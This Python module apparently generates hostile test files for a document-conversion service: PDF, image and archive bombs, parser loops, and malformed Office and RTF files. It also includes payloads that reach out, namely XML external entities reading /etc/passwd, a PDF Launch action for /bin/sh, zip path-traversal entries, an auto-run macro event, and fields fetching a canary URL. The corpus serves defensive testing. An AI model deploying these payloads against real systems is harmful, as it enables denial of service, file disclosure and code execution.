# ruff: noqa: E501  one hostile thing to a line
"""Hostile documents, each small and made by code: what a service that opens strangers' files will meet.

`KINDS` maps a name to a function of the canary's URL, which no file may ever reach; `mutants` damages honest files.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

from PIL import Image

from everyprint.documents.engine.tests import make, samples

KINDS: dict[str, tuple[str, Callable[[str], bytes]]] = {}
OFFICE = ("docx", "odt", "ods", "xlsx", "pptx", "rtf", "doc")


def kind(extension, name=None):
    def keep(function):
        KINDS[name or function.__name__] = (f"{name or function.__name__}.{extension}", function)
        return function

    return keep


# --- PDF: hand-written objects ---------------------------------------------------------------------------

CATALOGUE = b"<</Type/Catalog/Pages 2 0 R>>"


def stream(content, entries=b""):
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (entries, len(content), content)


def flate(content, entries=b""):
    return stream(zlib.compress(content, 9), entries + b"/Filter/FlateDecode")


def page(content=b"", *objects, box=b"0 0 595 842", resources=b"", more=b""):
    """One page; `content` is a stream's bytes or a whole object; further objects are numbered from 5."""
    body = content if content.startswith(b"<<") else stream(content)
    return make.raw([
        CATALOGUE, b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents 4 0 R/Resources<<%s>>%s>>" % (box, resources, more),
        body, *objects,
    ])  # fmt: skip


def pages(entries):
    return make.raw([CATALOGUE, entries, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"])


def pdf_image(width, height, entries, data=b""):
    space = b"/Type/XObject/Subtype/Image/Width %d/Height %d" % (width, height)
    return page(
        b"q 500 0 0 500 0 0 cm /I Do Q", stream(data, space + entries), resources=b"/XObject<</I 5 0 R>>"
    )


GRAY8 = b"/ColorSpace/DeviceGray/BitsPerComponent 8"
SIMPLE: dict[str, Callable[[], bytes]] = {
    "page_tree_million": lambda: make.page_tree_bomb(6, 10),
    "page_tree_billion": lambda: make.page_tree_bomb(9, 10),
    "page_tree_cycle": lambda: make.raw([CATALOGUE, b"<</Type/Pages/Count 2/Kids[2 0 R 2 0 R]>>"]),
    "page_its_own_parent": lambda: make.raw(
        [CATALOGUE, b"<</Type/Pages/Count 1/Kids[3 0 R]>>", b"<</Type/Page/Parent 3 0 R>>"]
    ),
    "count_lies_billion": lambda: pages(b"<</Type/Pages/Count 1000000000/Kids[3 0 R]>>"),
    "count_negative": lambda: pages(b"<</Type/Pages/Count -5/Kids[3 0 R]>>"),
    "count_zero": lambda: pages(b"<</Type/Pages/Count 0/Kids[]>>"),
    "kids_missing": lambda: pages(b"<</Type/Pages/Count 3/Kids[9 0 R 10 0 R 11 0 R]>>"),
    "content_ten_million_lines": make.content_bomb,
    "content_flate_gigabyte": lambda: page(flate(b" " * (64 << 20))),
    "content_flate_twice": lambda: page(
        stream(zlib.compress(zlib.compress(b"0 " * (32 << 20), 9), 9), b"/Filter[/FlateDecode/FlateDecode]")
    ),
    "content_filter_chain": lambda: page(stream(b"00>" * 10, b"/Filter[" + b"/ASCIIHexDecode" * 2000 + b"]")),
    "content_run_length": lambda: page(stream(b"\x81 " * 500_000, b"/Filter/RunLengthDecode")),
    "content_lzw_garbage": lambda: page(stream(bytes(range(256)) * 500, b"/Filter/LZWDecode")),
    "content_deep_states": lambda: page(flate(b"q " * 3_000_000)),
    "content_restores": lambda: page(flate(b"Q " * 3_000_000)),
    "content_deep_arrays": lambda: page(flate(b"[" * 2_000_000)),
    "content_deep_dictionaries": lambda: page(flate(b"/a <<" * 500_000)),
    "content_unknown_operators": lambda: page(flate(b"zz yy xx " * 1_000_000)),
    "content_huge_numbers": lambda: page(b"1e308 -1e308 9999999999999999999 0 re f 1e38 w 0 0 m 1e38 1e38 l S"),
    "content_not_a_number": lambda: page(b"NaN inf -inf nan cm 0 0 NaN 100 re f"),
    "content_tiny_dashes": lambda: page(b"[0.000001 0.000001] 0 d 500 w 0 0 m 595 842 l S " * 20),
    "content_many_clips": lambda: page(flate(b"0 0 500 500 re W n " * 200_000)),
    "content_marked_depth": lambda: page(flate(b"/a BMC " * 1_000_000)),
    "content_inline_image_giant": lambda: page(b"q 9 0 0 9 0 0 cm BI /W 60000 /H 60000 /BPC 8 /CS /G ID aaa EI Q"),
    "form_self_reference": make.self_referencing_form,
    "form_laughs": lambda: page(
        b"/X Do",
        *(
            stream(b"/X Do /X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>" % n)
            for n in range(6, 34)
        ),
        stream(b"0 0 9 9 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]"),
        resources=b"/XObject<</X 5 0 R>>",
    ),
    "form_negative_box": lambda: page(
        b"/X Do", stream(b"0 0 9 9 re f", b"/Type/XObject/Subtype/Form/BBox[9e9 9e9 -9e9 -9e9]/Matrix[0 0 0 0 0 0]"),
        resources=b"/XObject<</X 5 0 R>>",
    ),
    "pattern_tiny": lambda: page(
        b"/Pattern cs /P scn 0 0 595 842 re f",
        stream(b"0 0 1 1 re f", b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 .01 .01]/XStep .01/YStep .01"),
        resources=b"/Pattern<</P 5 0 R>>",
    ),
    "pattern_self_reference": lambda: page(
        b"/Pattern cs /P scn 0 0 595 842 re f",
        stream(
            b"/Pattern cs /P scn 0 0 9 9 re f",
            b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 9 9]/XStep 9/YStep 9/Resources<</Pattern<</P 5 0 R>>>>",
        ),
        resources=b"/Pattern<</P 5 0 R>>",
    ),
    "shading_function_deep": lambda: page(
        b"/S sh",
        b"<</ShadingType 1/ColorSpace/DeviceGray/Domain[0 1e9 0 1e9]/Function 6 0 R>>",
        stream(b"{" * 3000 + b"}" * 3000, b"/FunctionType 4/Domain[0 1 0 1]/Range[0 1]"),
        resources=b"/Shading<</S 5 0 R>>",
    ),
    "function_samples_huge": lambda: page(
        b"/S sh",
        b"<</ShadingType 2/ColorSpace/DeviceGray/Coords[0 0 9 9]/Function 6 0 R>>",
        stream(b"", b"/FunctionType 0/Domain[0 1]/Range[0 1]/Size[2000000000]/BitsPerSample 32"),
        resources=b"/Shading<</S 5 0 R>>",
    ),
    "soft_mask_self": lambda: page(
        b"/G gs 0 0 500 500 re f",
        b"<</SMask<</S/Luminosity/G 6 0 R>>>>",
        stream(
            b"/G gs 0 0 9 9 re f",
            b"/Type/XObject/Subtype/Form/BBox[0 0 500 500]/Group<</S/Transparency>>/Resources<</ExtGState<</G 5 0 R>>>>",
        ),
        resources=b"/ExtGState<</G 5 0 R>>",
    ),
    "image_30000": lambda: pdf_image(
        30_000, 30_000, b"/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/FlateDecode", zlib.compress(bytes(9 << 20))
    ),
    "image_100000": lambda: pdf_image(100_000, 100_000, GRAY8 + b"/Filter/FlateDecode", zlib.compress(bytes(1 << 20))),
    "image_size_overflow": lambda: pdf_image(0x7FFFFFFF, 0x7FFFFFFF, GRAY8),
    "image_negative": lambda: pdf_image(-5, -5, GRAY8),
    "image_mask_of_itself": lambda: pdf_image(9, 9, GRAY8 + b"/SMask 5 0 R", bytes(81)),
    "image_jbig2_garbage": lambda: pdf_image(2000, 2000, b"/BitsPerComponent 1/Filter/JBIG2Decode", bytes(range(256)) * 9),
    "image_jpx_garbage": lambda: pdf_image(2000, 2000, b"/Filter/JPXDecode", b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(999)),
    "image_fax_endless": lambda: pdf_image(
        60_000, 20_000, GRAY8[:-1] + b"1/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 60000/Rows 20000>>", bytes(99)
    ),
    "image_indexed_of_indexed": lambda: pdf_image(
        9, 9, b"/BitsPerComponent 8/ColorSpace[/Indexed[/Indexed/DeviceRGB 255()]255()]", bytes(81)
    ),
    "image_predictor_overflow": lambda: pdf_image(
        99, 99, GRAY8 + b"/Filter/FlateDecode/DecodeParms<</Predictor 15/Colors 999999/Columns 99999999>>",
        zlib.compress(bytes(9999)),
    ),
    "page_billion_points": lambda: page(b"0 0 9 9 re f", box=b"0 0 1e9 1e9"),
    "page_million_by_one": lambda: page(b"0 0 9 9 re f", box=b"0 0 1000000 1"),
    "page_zero": lambda: page(b"0 0 9 9 re f", box=b"0 0 0 0"),
    "page_box_not_a_number": lambda: page(b"0 0 9 9 re f", box=b"NaN NaN inf -inf"),
    "page_box_of_names": lambda: page(b"", box=b"/a /b (c) null"),
    "page_user_unit": lambda: page(b"0 0 9 9 re f", more=b"/UserUnit 1e30"),
    "page_rotate_odd": lambda: page(b"0 0 9 9 re f", more=b"/Rotate 2147483647"),
    "object_deep_arrays": lambda: page(b"", b"[" * 1_000_000 + b"]" * 1_000_000, more=b"/X 5 0 R"),
    "object_deep_dictionaries": lambda: page(b"", b"<</a" * 300_000 + b" 1" + b">>" * 300_000, more=b"/X 5 0 R"),
    "object_reference_loop": lambda: page(b"", b"6 0 R", b"5 0 R", more=b"/Rotate 5 0 R/Annots 5 0 R"),
    "stream_length_loop": lambda: page(b"<</Length 4 0 R>>stream\n0 0 9 9 re f\nendstream"),
    "stream_length_lies": lambda: page(b"<</Length 4000000000>>stream\n0 0 9 9 re f\nendstream"),
    "annotations_hundred_thousand": lambda: page(
        b"", b"[" + b"<</Subtype/Square/Rect[0 0 9 9]/F 4>>" * 100_000 + b"]", more=b"/Annots 5 0 R"
    ),
    "annotation_its_own_popup": lambda: page(
        b"", b"<</Subtype/Text/Rect[0 0 9 9]/F 4/Popup 5 0 R/Parent 5 0 R/IRT 5 0 R>>", more=b"/Annots[5 0 R]"
    ),
    "font_garbage": lambda: page(
        b"BT /F 20 Tf 50 500 Td (abc) Tj ET",
        b"<</Type/Font/Subtype/TrueType/BaseFont/A/FirstChar 0/LastChar 255/FontDescriptor 6 0 R>>",
        b"<</Type/FontDescriptor/FontName/A/Flags 4/FontFile2 7 0 R>>",
        stream(struct.pack(">IHHHH", 0x10000, 65535, 0, 0, 0) + bytes(range(256)) * 40),
        resources=b"/Font<</F 5 0 R>>",
    ),
    "font_type3_self": lambda: page(
        b"BT /F 20 Tf 50 500 Td (aaa) Tj ET",
        b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 97/LastChar 97/Widths[9]"
        b"/Encoding<</Differences[97/a]>>/CharProcs<</a 6 0 R>>/Resources<</Font<</F 5 0 R>>>>>>",
        stream(b"9 0 d0 BT /F 20 Tf (aaaa) Tj ET"),
        resources=b"/Font<</F 5 0 R>>",
    ),
    "font_type1_endless": lambda: page(
        b"BT /F 20 Tf 50 500 Td (abc) Tj ET",
        b"<</Type/Font/Subtype/Type1/BaseFont/A/FontDescriptor 6 0 R>>",
        b"<</Type/FontDescriptor/FontName/A/Flags 4/FontFile 7 0 R>>",
        flate(b"%!PS-AdobeFont-1.0: A\n/Subrs 999999999 array\n" + b"dup 0 9 RD aaaaaaaaa NP\n" * 200_000),
        resources=b"/Font<</F 5 0 R>>",
    ),
    "font_map_huge": lambda: page(
        b"BT /F 20 Tf 50 500 Td <0000> Tj ET",
        b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding 6 0 R/ToUnicode 6 0 R/DescendantFonts[7 0 R]>>",
        flate(b"1 begincidrange\n" + b"<00000000> <ffffffff> 0\n" * 100_000 + b"endcidrange"),
        b"<</Type/Font/Subtype/CIDFontType2/BaseFont/A/W[0 4294967295 9]>>",
        resources=b"/Font<</F 5 0 R>>",
    ),
    "text_ten_million_letters": lambda: page(
        flate(b"BT /F 1 Tf (" + b"a" * 10_000_000 + b") Tj ET"),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        resources=b"/Font<</F 5 0 R>>",
    ),
    "layers_hundred_thousand": lambda: make.raw([
        b"<</Type/Catalog/Pages 2 0 R/OCProperties<</OCGs[%s]/D<</OFF[%s]>>>>>>" % (b"4 0 R " * 100_000, b"4 0 R " * 100_000),
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>", b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>", b"<</Type/OCG/Name()>>",
    ]),
    "xref_loop": lambda: make.pdf().replace(b"%%EOF", b"")[:-20] + b"\nxref\n0 0\ntrailer<</Prev 9/Root 1 0 R>>\n"
    b"startxref\n9\n%%EOF",
    "xref_far_away": lambda: b"%PDF-1.7\nstartxref\n99999999999999999999\n%%EOF",
    "object_stream_bomb": lambda: make.raw([
        CATALOGUE, b"<</Type/Pages/Count 1/Kids[3 0 R]>>", b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        flate(b"5 0 " * 5_000_000, b"/Type/ObjStm/N 5000000/First 20000000"),
    ]),
    "object_stream_in_itself": lambda: make.raw([
        CATALOGUE, b"<</Type/Pages/Count 1/Kids[3 0 R]>>", b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        stream(b"4 0 ", b"/Type/ObjStm/N 1/First 4/Extends 4 0 R"),
    ]),
    "encryption_unknown": lambda: make.pdf().replace(b"/Root", b"/Encrypt<</Filter/Nobody/V 99/R 99>>/Root"),
    "encryption_rounds": lambda: make.encrypted().replace(b"/R 6", b"/R 5"),
    "only_a_header": lambda: b"%PDF-1.7\n",
    "header_and_noise": lambda: b"%PDF-1.7\n" + random.Random(1).randbytes(100_000),
    "cut_in_half": lambda: make.text_pages(9)[: len(make.text_pages(9)) // 2],
    "five_thousand_pages": lambda: make.raw([
        CATALOGUE, b"<</Type/Pages/Count 5000/Kids[%s]>>" % b" ".join(b"%d 0 R" % n for n in range(3, 5003)),
        *[b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"] * 5000,
    ]),
}  # fmt: skip
for _name, _function in SIMPLE.items():
    kind("pdf", _name)(lambda url, make_it=_function: make_it())


@kind("pdf")
def phones_home(url):
    """Every action we know of that opens an address, a file or a program."""
    target = url.encode()
    return make.raw([
        b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(%s)>>/AA<</WC<</S/JavaScript/JS(this.submitForm('%s'))>>>>"
        b"/AcroForm<</XFA 5 0 R/Fields[6 0 R]>>>>" % (target, target),
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Annots[6 0 R]/AA<</O<</S/GoToR/F(%s)>>>>>>" % target,
        stream(b"", b"/F<</FS/URL/F(%s)>>/FFilter/FlateDecode" % target),
        stream(b"<xdp><template><image href='%s'/></template></xdp>" % target),
        b"<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 9 9]/F 4/A<</S/SubmitForm/F(%s)>>"
        b"/AA<</PV<</S/Launch/F(/bin/sh)>>>>>>" % target,
    ])  # fmt: skip


@kind("pdf")
def external_image_stream(url):
    return pdf_image(9, 9, GRAY8 + b"/F<</FS/URL/F(%s)>>" % url.encode())


@kind("pdf")
def polyglot_pdf_and_zip(url):
    return make.pdf() + samples.docx()


@kind("jpg")
def polyglot_jpeg_and_pdf(url):
    return make.photo() + make.pdf()


@kind("docx")
def pdf_that_is_called_docx(url):
    return make.active()


@kind("pdf")
def program_that_is_called_pdf(url):
    return b"\x7fELF\x02\x01\x01" + bytes(5000)


# --- pictures ----------------------------------------------------------------------------------------------


def encoded(image, form, **options):
    out = io.BytesIO()
    image.save(out, form, **options)
    return out.getvalue()


def png(width, height, rows=b"", *, depth=8, colour=0, more=b""):
    def chunk(name, data):
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + more + chunk(b"IDAT", zlib.compress(rows, 9)) + chunk(b"IEND", b"")


PICTURES = {
    "photo_200_megapixels": ("png", lambda: png(16_320, 12_240)),
    "png_claims_two_billion": ("png", lambda: png(0x7FFFFFFF, 0x7FFFFFFF)),
    "png_rows_bomb": ("png", lambda: png(7_000, 7_000, bytes(7_001 * 7_000))),
    "png_rows_missing": ("png", lambda: png(3_000, 3_000, b"\0")),
    "png_interlace_and_depth_odd": ("png", lambda: png(30, 30, bytes(999), depth=3, colour=7)),
    "jpeg_claims_65500": (
        "jpg",
        lambda: make.photo().replace(struct.pack(">HH", 300, 400), struct.pack(">HH", 65_500, 65_500)),
    ),
    "jpeg_grows": (
        "jpg",
        lambda: make.photo().replace(struct.pack(">HH", 300, 400), struct.pack(">HH", 7_000, 8_000)),
    ),
    "jpeg_cut": ("jpg", lambda: encoded(Image.effect_noise((400, 400), 90), "JPEG")[:9_000]),
    "jpeg_many_scans": ("jpg", lambda: _many_scans()),
    "jpeg_exif_loop": ("jpg", lambda: _exif(b"II*\0\x08\0\0\0\x01\0\x69\x87\x04\0\x01\0\0\0\x08\0\0\0\x08\0\0\0")),
    "gif_claims_65535": ("gif", lambda: b"GIF89a\xff\xff\xff\xff\x80\0\0" + bytes(6) + b",\0\0\0\0\xff\xff\xff\xff\0\x02;"),
    "gif_ten_thousand_frames": (
        "gif",
        lambda: b"GIF89a\x01\0\x01\0\x80\0\0" + bytes(6) + b",\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0" * 10_000 + b";",
    ),
    "tiff_directory_loop": ("tif", lambda: _tiff([(256, 9), (257, 9)], after=8)),
    "tiff_claims_two_billion": ("tif", lambda: _tiff([(256, 0x7FFFFFFF), (257, 0x7FFFFFFF), (258, 8), (262, 1)])),
    "tiff_strip_far_away": ("tif", lambda: _tiff([(256, 99), (257, 99), (258, 8), (262, 1), (273, 0xFFFFFFF0), (279, 9801)])),
    "tiff_three_hundred_pages": (
        "tif",
        lambda: encoded(Image.new("1", (9, 9)), "TIFF", save_all=True, append_images=[Image.new("1", (9, 9))] * 300),
    ),
    "webp_cut": ("webp", lambda: encoded(Image.effect_noise((400, 400), 90).convert("RGB"), "WEBP")[:5_000]),
    "webp_claims_16383": ("webp", lambda: b"RIFF\x1e\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0" + b"\xfe\x3f\0\xfe\x3f\0" + b"VP8 \0\0\0\0"),
    "heic_garbage": ("heic", lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(range(256)) * 20),
    "heic_claims_huge": ("heic", lambda: samples.heic(0x7FFFFFFF, 0x7FFFFFFF)),
    "heic_claims_sixty_thousand": ("heic", lambda: samples.heic(60_000, 60_000)),
    "heic_claims_nothing": ("heic", lambda: samples.heic(0, 0)),
    "heic_cut": ("heic", lambda: samples.HEIC[:-60]),
    "heic_picture_damaged": ("heic", lambda: samples.HEIC[:-80] + bytes(byte ^ 0xA5 for byte in samples.HEIC[-80:])),
    "heic_boxes_loop": ("heic", lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0\0\0\0meta" * 3_000),
}  # fmt: skip
for _name, (_extension, _function) in PICTURES.items():
    kind(_extension, _name)(lambda url, make_it=_function: make_it())


def _many_scans():
    photo = encoded(Image.effect_noise((3_000, 3_000), 90), "JPEG", progressive=True, quality=5)
    start = photo.rindex(b"\xff\xda")
    return photo[:start] + photo[start:-2] * 40 + b"\xff\xd9"


def _exif(body):
    segment = b"Exif\0\0" + body
    photo = make.photo()
    return photo[:2] + b"\xff\xe1" + struct.pack(">H", len(segment) + 2) + segment + photo[2:]


def _tiff(entries, after=0):
    body = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in entries)
    return b"II*\0\x08\0\0\0" + struct.pack("<H", len(entries)) + body + struct.pack("<I", after)


# --- text --------------------------------------------------------------------------------------------------


@kind("txt")
def text_of_form_feeds(url):
    return b"a\f" * 100_000


@kind("txt")
def text_of_one_line(url):
    return b"x" * 4_000_000


@kind("txt")
def text_of_marks(url):
    return ("e" + "\u0301" * 500_000).encode()


@kind("txt")
def half_a_utf16(url):
    return b"\xff\xfe" + b"\x00\xd8" * 5_000


# --- office ------------------------------------------------------------------------------------------------


@kind("docx")
def docx_external_image(url):
    link = f'<Relationship Id="r2" Type="{samples.RELATIONS}/image" Target="{url}" TargetMode="External"/>'
    return samples.docx(
        relations=link,
        body='<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:9pt;height:9pt">'
        '<v:imagedata r:id="r2"/></v:shape></w:pict></w:r></w:p>',
    )


@kind("docx")
def docx_external_template(url):
    link = f'<Relationship Id="r2" Type="{samples.RELATIONS}/attachedTemplate" Target="{url}" TargetMode="External"/>'
    return samples.docx(
        extra={
            "word/settings.xml": f'<w:settings xmlns:w="{samples.WORD}"/>',
            "word/_rels/settings.xml.rels": f'<Relationships xmlns="{samples.PACKAGE}/relationships">{link}</Relationships>',
        }
    )


@kind("docx")
def docx_fetching_field(url):
    return samples.docx(
        body=f'<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;{url}&quot; \\d "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
    )


@kind("docx")
def docx_outside_entity(url):
    text = f'<!DOCTYPE a [<!ENTITY b SYSTEM "{url}"><!ENTITY c SYSTEM "file:///etc/passwd">]><a>&b;&c;</a>'
    return samples.docx(extra={"docProps/core.xml": text, "word/styles.xml": text})


@kind("docx")
def docx_laughs(url):
    entities = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return samples.docx(extra={"word/document.xml": f"<!DOCTYPE a [{entities}]><a>&a9;</a>"})


@kind("docx")
def docx_zip_bomb(url):
    return samples.docx(extra={"word/media/a.bin": bytes(300 << 20)})


@kind("docx")
def docx_million_paragraphs(url):
    return samples.docx(body="<w:p/>" * 3_000_000)


@kind("docx")
def docx_deep_xml(url):
    return samples.docx(body="<w:tbl><w:tr><w:tc>" * 3_000 + "</w:tc></w:tr></w:tbl>" * 3_000)


@kind("docx")
def docx_entries_escape(url):
    return samples.docx(extra={"../../../../tmp/escaped": b"x", "/etc/escaped": b"x"})


@kind("docx")
def docx_macro(url):
    return samples.docx(extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(600)})


@kind("docx")
def docx_lying_sizes(url):
    honest = samples.docx(extra={"word/big.xml": b" " * (50 << 20)})
    return honest.replace((50 << 20).to_bytes(4, "little"), (99).to_bytes(4, "little"))


@kind("docx")
def docx_twice_the_same_name(url):
    out = io.BytesIO(samples.docx())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("word/Document.xml", "<a/>")
    return out.getvalue()


@kind("docx")
def docx_cut(url):
    return samples.docx()[:-300]


@kind("zip")
def zip_of_zips(url):
    inner = samples.archive({"a": bytes(10 << 20)})
    return samples.archive({str(number): inner for number in range(200)})


@kind("odt")
def odt_links(url):
    return samples.open_document(
        "odt",
        body=f'<text:section text:name="a"><text:section-source xlink:href="{url}"/></text:section>'
        f'<text:p><draw:frame><draw:image xlink:href="{url}"/></draw:frame></text:p>'
        '<text:section text:name="b"><text:section-source xlink:href="file:///etc/passwd"/></text:section>',
    )


@kind("odt")
def odt_runs_macro_when_opened(url):
    event = (
        '<office:scripts><office:event-listeners xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0">'
        '<script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href='
        f'"vnd.sun.star.script:../../../usr/lib/python3/x.py$f?language=Python&amp;location=share&amp;a={url}"/>'
        "</office:event-listeners></office:scripts>"
    )
    return samples.open_document("odt", scripts=event, extra={"Scripts/python/x.py": "import os"})


@kind("ods")
def ods_web_function(url):
    cell = f'<table:table-cell table:formula="of:=WEBSERVICE(&quot;{url}&quot;)" office:value-type="string"/>'
    row = f"<table:table-row>{cell}</table:table-row>"
    return samples.open_document("ods", body=f'<table:table table:name="a">{row}</table:table>')


@kind("ods")
def ods_million_rows(url):
    cell = '<table:table-cell office:value-type="string"><text:p>x</text:p></table:table-cell>'
    row = f'<table:table-row table:number-rows-repeated="1000000">{cell}</table:table-row>'
    return samples.open_document("ods", body=f'<table:table table:name="a">{row}</table:table>')


@kind("rtf")
def rtf_fetches(url):
    return samples.rtf(
        '{\\field{\\*\\fldinst INCLUDEPICTURE "' + url + '"}{\\fldrslt x}}{\\*\\template ' + url + "}"
    )


@kind("rtf")
def rtf_deep(url):
    return b"{\\rtf1 " + b"{" * 500_000


@kind("rtf")
def rtf_object(url):
    return samples.rtf("{\\object\\objemb{\\*\\objdata 0105000002000000" + "41" * 5_000 + "}}")


@kind("doc")
def doc_garbage(url):
    return (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + "WordDocument\0".encode("utf-16-le")
        + random.Random(2).randbytes(30_000)
    )


# --- mutants -----------------------------------------------------------------------------------------------


def seeds() -> list[tuple[str, bytes]]:
    """Honest files of every kind to be damaged; office files are a tenth, for they are slow to convert."""
    noise = Image.effect_noise((160, 120), 60).convert("RGB")
    fast = [
        ("text.pdf", make.text_pages(3)), ("colour.pdf", make.pdf([make.COLOUR, make.FAINT, ""])),
        ("field.pdf", make.with_field()), ("note.pdf", make.with_annotation(prints=True)),
        ("active.pdf", make.active()), ("image.pdf", make.with_image(60, 80)), ("locked.pdf", make.encrypted()),
        ("form.pdf", make.self_referencing_form().replace(b"/X Do /X Do", b"0 0 9 9 re")),
        *((f"noise.{form.lower()}", encoded(noise, form)) for form in ("JPEG", "PNG", "WEBP", "TIFF", "GIF")),
        ("progressive.jpg", encoded(noise, "JPEG", progressive=True)),
        ("text.txt", "Élève de Saint-Louis\n".encode() * 30),
    ]  # fmt: skip
    slow = [
        ("a.docx", samples.docx_pages(2)), ("a.odt", samples.open_document("odt")),
        ("a.ods", samples.open_document("ods")), ("a.rtf", samples.rtf("texte " * 40)),
    ]  # fmt: skip
    return fast * 2 + slow


def mutants(count: int, honest: list[tuple[str, bytes]], seed: int = 20) -> Iterator[tuple[str, bytes]]:
    """`count` damaged files, the same every time."""
    chance = random.Random(seed)
    for number in range(count):
        name, data = chance.choice(honest)
        changed = bytearray(data)
        for _ in range(chance.choice((1, 1, 2, 5, 20))):
            chance.choice(_DAMAGES)(changed, chance)
        yield f"{number}-{name}", bytes(changed)


def _flip(data, chance):
    if data:
        data[chance.randrange(len(data))] ^= 1 << chance.randrange(8)


def _overwrite(data, chance):
    if data:
        start = chance.randrange(len(data))
        data[start : start + 4] = chance.choice(
            (b"\xff\xff\xff\xff", b"\0\0\0\0", b"\x7f\xff\xff\xff", b"9999")
        )


def _cut(data, chance):
    del data[chance.randrange(len(data) + 1) :]


def _remove(data, chance):
    start = chance.randrange(len(data) + 1)
    del data[start : start + chance.randrange(1, 200)]


def _repeat(data, chance):
    start = chance.randrange(len(data) + 1)
    piece = bytes(data[start : start + chance.randrange(1, 500)])
    data[start:start] = piece * chance.randrange(1, 20)


def _digits(data, chance):
    """Numbers are where parsers trust a file."""
    places = [place for place, byte in enumerate(data) if 48 <= byte <= 57]
    if places:
        place = chance.choice(places)
        data[place : place + 1] = chance.choice((b"-1", b"0", b"4294967296", b"99999999999", b"1e99"))


_DAMAGES = (_flip, _flip, _overwrite, _cut, _remove, _repeat, _digits)
